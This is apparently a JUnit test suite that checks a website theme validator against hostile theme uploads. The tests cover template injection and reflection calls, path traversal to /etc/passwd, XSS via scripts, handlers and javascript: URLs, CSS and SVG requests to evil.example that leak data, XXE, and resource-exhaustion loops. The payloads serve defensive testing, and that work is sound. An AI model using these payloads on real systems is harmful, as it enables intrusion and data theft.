package info.becs.site.themes.control;

import static org.assertj.core.api.Assertions.assertThat;

import info.becs.site.themes.entity.Finding;
import info.becs.site.themes.entity.ThemeFault;
import info.becs.site.themes.entity.ThemeFiles;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Themes that somebody sends in to get more than a look: each whole, as a zip, over the real base. All are refused with a
 * sentence that names what it is, or find nothing to do ("^$"); afterwards the theme in use draws the same page as before.
 *
 * <p>What the engine itself lets nobody do, without lint and checker before it, is shown by {@link LockdownTest}.
 */
@Timeout(120)
class ThemeAttacksTest {

    private static final ThemeFiles BASE = Showroom.base();
    private static final Showroom IN_USE = new Showroom("becs");
    private static final Samples.Sample PAGE = IN_USE.samples().stream()
            .filter(sample ->
                    sample.template().equals("page") && sample.locale().equals(Locale.ENGLISH))
            .findFirst()
            .orElseThrow();
    private static final String BEFORE = IN_USE.draw(PAGE).html();

    /** S7, S8 */
    @ParameterizedTest(name = "{0}")
    @MethodSource({"reflection", "paths", "endless", "markup", "branches", "addresses", "styles", "drawings", "settings"
    })
    void isRefusedWithASentenceAndNothingHasChanged(String attack, Map<String, String> files, String said) {
        long began = System.nanoTime();

        String answer = answer(files);

        assertThat(answer).as(attack).containsPattern(said).hasSizeLessThan(20_000);
        assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(Duration.ofSeconds(30));
        assertThat(IN_USE.draw(PAGE).html()).isEqualTo(BEFORE);
    }

    private static String answer(Map<String, String> files) {
        try {
            List<Finding> findings =
                    ThemeCheck.of(ThemeZip.read(new Zip().with(files).bytes()), BASE);
            return findings.stream().filter(Finding::grave).map(Finding::text).reduce("", (a, b) -> a + "\n" + b);
        } catch (ThemeFault e) {
            return e.getMessage();
        }
    }

    static Stream<Arguments> reflection() {
        return Stream.of(
                page("a method", "{{ title.getClass() }}", "is a call|no fact"),
                page("a class by a chain", "{{ title.class.forName('java.lang.Runtime') }}", "is a call|no fact"),
                page("a class through a number", "{{ (1).TYPE.forName('x') }}", "is a call|no fact|cannot be compiled"),
                page("a class by subscript", "{{ title['class']['name'].x() }}", "is a call|no fact"),
                page("the engine's context", "{{ _context }}", "no fact|cannot draw"),
                page("the engine itself", "{{ template.engine.loader }}", "no fact"),
                page("the locale's methods", "{{ locale.getDisplayName() }}", "no fact|is a call"),
                page(
                        "what a loop carries",
                        "{% for m in menu %}{{ loop.getClass() }}{% endfor %}",
                        "is a call|no fact"),
                page("a bean", "{{ beans.get('themes') }}", "no fact|is a call"),
                page("a request", "{{ request.session.id }}", "no fact"),
                page("a bundle", "{{ i18n('messages', 'x') }}", "cannot be compiled|cannot draw|no fact"),
                page("raw", "{{ body | raw }}", "cannot be compiled|cannot draw"),
                page("raw by autoescape", "{% autoescape false %}{{ title }}{% endautoescape %}", "cannot be compiled"),
                page("a filter by tag", "{% filter raw %}{{ title }}{% endfilter %}", "cannot be compiled"),
                page("a date that escapes nothing", "{{ title | date('<b>') }}", "cannot be compiled|cannot draw"),
                page("a replacement", "{{ title | replace({'a': '<'}) }}", "writes a list or a map|cannot"),
                page("base64", "{{ title | base64decode }}", "cannot be compiled|cannot draw"),
                page("another strategy", "{{ title | escape('js') }}", "^$"),
                page("a macro", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "cannot be compiled"),
                page("an import", "{% import 'layout' %}", "cannot be compiled"),
                page("an embedding", "{% embed 'layout' %}{% endembed %}", "cannot be compiled"),
                page("a cache", "{% cache 'x' %}x{% endcache %}", "cannot be compiled"),
                page("threads", "{% parallel %}x{% endparallel %}", "cannot be compiled"),
                page(
                        "verbatim",
                        "{% verbatim %}{{ x }}<b onclick=x>{% endverbatim %}",
                        "cannot be compiled|onclick|quotes"),
                page("a tag of nobody", "{% exec 'id' %}", "cannot be compiled"),
                page("another engine's words", "<#assign x='a'><p>${title}</p>{% php %}", "cannot be compiled"));
    }

    static Stream<Arguments> paths() {
        return Stream.of(
                page("out of the folder", "{% include '../../server' %}", "no template|cannot draw"),
                page("from the root", "{% include '/etc/passwd' %}", "no template|cannot draw"),
                page("by scheme", "{% include 'file:///etc/passwd' %}", "no template|cannot draw"),
                page("computed", "{% include '../' ~ title %}", "cannot draw"),
                page("below base", "{% extends 'base/../../x' %}", "no template|cannot"),
                page("a file of another kind", "{% include 'theme.json' %}", "no template|cannot draw"),
                page("with a null", "{% include 'layout\u0000' %}", "no template|cannot draw"),
                page("an asset outside", "<img alt=\"\" src=\"{{ asset('../theme.json') }}\">", "cannot draw"),
                page("a style that is none", "{{ stylesheet('../../x.css') }}", "cannot draw"),
                file("a name that climbs", "assets/../../x.svg", "<svg/>", "may not use"),
                file("a name from the root", "/x.html", "x", "may not use"),
                file("a name of Windows", "a\\b.html", "x", "may not use"),
                file("a drive", "c:x.html", "x", "may not use"),
                file("over base", "base/layout.html", "x", "may not use"),
                file("a page of the server", "x.jsp", "<% %>", "may not use"),
                file("a class", "x.class", "x", "may not use"),
                file("a script", "assets/x.js", "alert(1)", "is a script"),
                file("a page among the assets", "assets/x.htm", "<script>", "may not use"),
                file("capitals, which some disks fold", "Layout.html", "x", "may not use"),
                file("letters that look alike", "lаyout.html", "x", "may not use"));
    }

    static Stream<Arguments> endless() {
        String doubling = "{% for i in range(1,60) %}{% set s = %s %}{% endfor %}{{ s }}";
        return Stream.of(
                page("a long range", "{% for i in range(0, 2000000000) %}{% endfor %}", "range of more than"),
                page(
                        "loops in loops",
                        "{% for a in range(1,500) %}".repeat(6) + "{% endfor %}".repeat(6),
                        "steps|longer"),
                page(
                        "a page without end",
                        "{% for a in range(1,500) %}{% for b in range(1,39) %}" + "x".repeat(99)
                                + "{% endfor %}{% endfor %}",
                        "writes more|steps"),
                page("a text that doubles", "{% set s = 'ab' %}" + doubling.replace("%s", "s ~ s"), "joins a text"),
                files(
                        "a word that doubles",
                        Map.of(
                                "page.html", "{% set s = 'ab' %}" + doubling.replace("%s", "t('twice', s)"),
                                "locales/bn.json", "{\"twice\": \"{0}{0}\"}",
                                "locales/en.json", "{\"twice\": \"{0}{0}\"}"),
                        "fills a word"),
                page("texts that are added", "{% set s = 'ab' %}" + doubling.replace("%s", "s + s"), "adds numbers"),
                page("a list that doubles", "{% set s = menu %}" + doubling.replace("%s", "s + s"), "adds numbers"),
                page("itself", "{% include 'page' %}", "includes itself|deep"),
                page("itself, twice", "{% include 'page' %}{% include 'page' %}", "includes itself|deep"),
                page("its own child", "{% extends 'page' %}", "cannot"),
                files(
                        "a circle of includes",
                        Map.of("page.html", "{% include 'b' %}", "b.html", "{% include 'page' %}"),
                        "includes itself|deep"),
                files(
                        "a circle of parents",
                        Map.of("page.html", "{% extends 'b' %}", "b.html", "{% extends 'page' %}"),
                        "cannot"),
                page("a block that draws itself", "{% block a %}{{ block('a') }}{% endblock %}", "calls block"),
                page(
                        "brackets as deep as the stack",
                        "{{ " + "(".repeat(20_000) + "1" + ")".repeat(20_000) + " }}",
                        "cannot"),
                page("no, no, no", "{{ " + "not ".repeat(20_000) + "true }}", "cannot"),
                page(
                        "branches as deep as the stack",
                        "{% if lang %}".repeat(9_000) + "{% endif %}".repeat(9_000),
                        "cannot"),
                page("a literal list", "{{ [1, 2, 3] }}", "writes a list"),
                page("a range by operator", "{{ 1..99999999 }}", "cannot"),
                file("a file without end", "news/list.html", "x".repeat(300_000), "too large"));
    }

    static Stream<Arguments> markup() {
        return Stream.of(
                page("a script", "<script>alert(1)</script>", "script"),
                page("a script from elsewhere", "<script src=\"https://evil.example/x.js\"></script>", "script"),
                page("a script of the API", "<script src=\"/api/news/articles\"></script>", "script"),
                page("a script of a value", "<script src=\"{{ title }}\"></script>", "script"),
                page("a handler", "<img alt=\"\" src=\"/x\" onerror=\"alert(1)\">", "onerror"),
                page("a handler in capitals", "<p OnMouseOver='x()'>", "onmouseover"),
                page("a handler behind a slash", "<svg/onload=alert(1)>", "onload|quotes|not closed"),
                page("a style of its own", "<p style=\"color:red\">", "style="),
                page("a style element", "<style>p{}</style>", "<style>"),
                page("a frame", "<iframe src=\"/x\"></iframe>", "iframe"),
                page("a refresh", "<meta http-equiv=\"refresh\" content=\"0;url=//evil\">", "http-equiv"),
                page("another base", "<base href=\"/x/\">", "<base>"),
                page("an animation that sets an address", "<svg><set attributename=\"href\" to=\"x\"/></svg>", "<set>"),
                page("markup of another language", "<svg><foreignObject>x</foreignObject></svg>", "foreignobject"),
                page("a template of the browser", "<template><p>x</p></template>", "<template>"),
                page("a value without quotes", "<p title={{ title }}>", "quote"),
                page("a value as a name", "<p {{ title }}>", "outside a quoted"),
                page("a value as a tag", "<{{ title }}>", "embedded|<"),
                page(
                        "a remark that is none to a browser",
                        "<!--><img alt=\"\" src=\"/x\" onerror=\"x()\">-->",
                        "onerror|remark"),
                page("a remark between texts", "{{ '<!--' }}<p onclick=\"x()\">{{ '-->' }}", "onclick"),
                page("a remark of both", "<!-- {# --><p onclick=\"x()\">#}", "onclick|remark"),
                page("a quote that is not closed", "<p title=\"a><b onclick=x>", "not closed|onclick"),
                page("a tag in two halves", "<scr{% if lang %}ipt>alert(1)</script>{% endif %}", "script|branch"));
    }

    static Stream<Arguments> branches() {
        return Stream.of(
                page(
                        "a quote in a branch",
                        "<p title={% if no %}\"{% endif %}x onclick=y{% if no %}\"{% endif %}>",
                        "branch"),
                page(
                        "a bracket in a branch",
                        "<p {% if lang %}>{% endif %}<b onclick=\"x\">",
                        "branch|onclick|not closed"),
                page("a block in a tag", "<p {% block x %}{% endblock %}>", "block"),
                page("a computed include in a tag", "<p {% include title %}>", "computed include"),
                files(
                        "attributes in a part",
                        Map.of("page.html", "<p {% include 'odd' %}>", "odd.html", "onclick=\"x()\""),
                        "onclick"),
                files(
                        "a value in a part",
                        Map.of("page.html", "<p {% include 'odd' %}>", "odd.html", "{{ title }}"),
                        "outside a quoted"));
    }

    static Stream<Arguments> addresses() {
        return Stream.of(
                page("javascript:", "<a href=\"javascript:alert(1)\">x</a>", "address"),
                page("javascript: with a gap", "<a href=\"java\tscript:alert(1)\">x</a>", "address"),
                page("data:", "<a href=\"data:text/html,x\">x</a>", "address"),
                page("a value as an address", "<a href=\"{{ title }}\">x</a>", "address"),
                page("one made, one not", "<a href=\"{{ link('/') ? title : title }}\">x</a>", "address"),
                page("another server without a scheme", "<a href=\"//evil.example\">x</a>", "address"),
                page("another server by backslash", "<a href=\"/\\evil.example\">x</a>", "address"),
                page("a picture that counts readers", "<img alt=\"\" src=\"https://evil.example/x.png\">", "address"),
                page("a form that goes elsewhere", "<form action=\"https://evil.example\"></form>", "address"),
                page(
                        "a button that goes elsewhere",
                        "<button formaction=\"https://evil.example\">x</button>",
                        "address"),
                page("a link that tells", "<a href=\"/\" ping=\"https://evil.example\">x</a>", "ping"),
                page(
                        "a style sheet from elsewhere",
                        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                        "address"),
                page(
                        "a drawing from elsewhere",
                        "<svg><use xlink:href=\"https://evil.example/x#y\"/></svg>",
                        "address"));
    }

    static Stream<Arguments> styles() {
        return Stream.of(
                css("an import", "@import url(//evil.example/x.css);", "@import"),
                css("an import by escape", "@\\69mport 'x';", "@import"),
                css("what is typed, letter by letter", "[value^=a]{background:url(https://evil.example/a)}", "loads"),
                css("an address by escape", "p{background:\\75rl(https://evil.example)}", "loads"),
                css("an address by a remark", "p{background:u/**/rl(https://evil.example)}", "loads"),
                css("a set of pictures", "p{background:image-set(\"https://evil.example/x\" 1x)}", "image-set"),
                css("a font from elsewhere", "@font-face{font-family:x;src:url(//evil.example/x.woff2)}", "loads"),
                css("out of the element", "p{}</style><script>alert(1)</script>", "has <"),
                css("data", "p{background:url(data:image/svg+xml,x)}", "data:"),
                css("an expression", "p{width:expression(alert(1))}", "expression"),
                css("a binding", "p{-moz-binding:url(x)}", "-moz-binding"),
                file("an asset that climbs", "assets/x.css", "p{background:url(../../x.png)}", "loads"));
    }

    static Stream<Arguments> drawings() {
        return Stream.of(
                svg("a script", "<script>alert(1)</script>", "<script>"),
                svg("a handler", "<path onload=\"alert(1)\"/>", "onload"),
                svg("a handler on the root", "</svg><svg onload=\"x\">", "cannot be read|onload"),
                svg("another document", "<use href=\"https://evil.example/x.svg#y\"/>", "href"),
                svg("a picture from elsewhere", "<image href=\"https://evil.example/x.png\"/>", "<image>"),
                svg("a page", "<foreignObject><p>x</p></foreignObject>", "foreignobject"),
                svg("a link", "<a href=\"javascript:alert(1)\"><path/></a>", "<a>"),
                svg("an animation", "<animate attributeName=\"href\" to=\"javascript:x\"/>", "<animate>"),
                svg("a style", "<style>@import '//evil';</style>", "@import"),
                svg("an address in an attribute", "<path fill=\"url(https://evil.example/x)\"/>", "loads"),
                file(
                        "an entity",
                        "assets/x.svg",
                        "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg>&x;</svg>",
                        "entity"),
                file(
                        "a thousand million laughs",
                        "assets/x.svg",
                        "<!DOCTYPE svg [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><svg>&b;</svg>",
                        "entity"),
                file(
                        "a page by the name of a picture",
                        "assets/x.png",
                        "<script>alert(1)</script>",
                        "not what its name"));
    }

    static Stream<Arguments> settings() {
        String colour =
                "{\"type\": \"colour\", \"group\": \"g\", \"label\": \"l\", \"default\": \"%s\", \"css\": \"%s\"}";
        return Stream.of(
                setting(
                        "a default that ends the rule",
                        colour.formatted("#000000}*{display:none", "--x"),
                        "cannot be used"),
                setting(
                        "a property that ends the rule",
                        colour.formatted("#000000", "--x:1}*{display:none}"),
                        "--brand"),
                setting(
                        "a scheme that loads",
                        colour.formatted("#000000", "--x").replace("}", ", \"scheme\": \"dark){}@import 'x'\"}"),
                        "--brand"),
                file(
                        "a name that is a path",
                        "theme.json",
                        "{\"name\": \"../x\", \"version\": \"1\", \"platform\": \"[1.0,2)\"}",
                        "must be a word"),
                file(
                        "the name of base",
                        "theme.json",
                        "{\"name\": \"base\", \"version\": \"1\", \"platform\": \"[1.0,2)\"}",
                        "must be a word"),
                file(
                        "another platform",
                        "theme.json",
                        "{\"name\": \"x\", \"version\": \"1\", \"platform\": \"[9.0,10)\"}",
                        "for platform"),
                file("deep JSON", "theme.json", "[".repeat(5_000), "theme.json"));
    }

    private static Arguments page(String attack, String template, String said) {
        return file(attack, "page.html", template, said);
    }

    private static Arguments css(String attack, String style, String said) {
        return file(attack, "theme.css", style, said);
    }

    private static Arguments svg(String attack, String shapes, String said) {
        return file(
                attack,
                "assets/x.svg",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"x\">" + shapes + "</svg>",
                said);
    }

    private static Arguments setting(String attack, String declared, String said) {
        return file(
                attack,
                "theme.json",
                "{\"name\": \"x\", \"version\": \"1\", \"platform\": \"[1.0,2)\", \"settings\": {\"odd\": " + declared
                        + "}}",
                said);
    }

    private static Arguments file(String attack, String path, String text, String said) {
        return files(attack, Map.of(path, text), said);
    }

    private static Arguments files(String attack, Map<String, String> more, String said) {
        var files = new LinkedHashMap<String, String>();
        files.put("theme.json", "{\"name\": \"nasty\", \"version\": \"1\", \"platform\": \"[1.0,2)\"}");
        files.putAll(more);
        return Arguments.of(attack, files, said);
    }
}
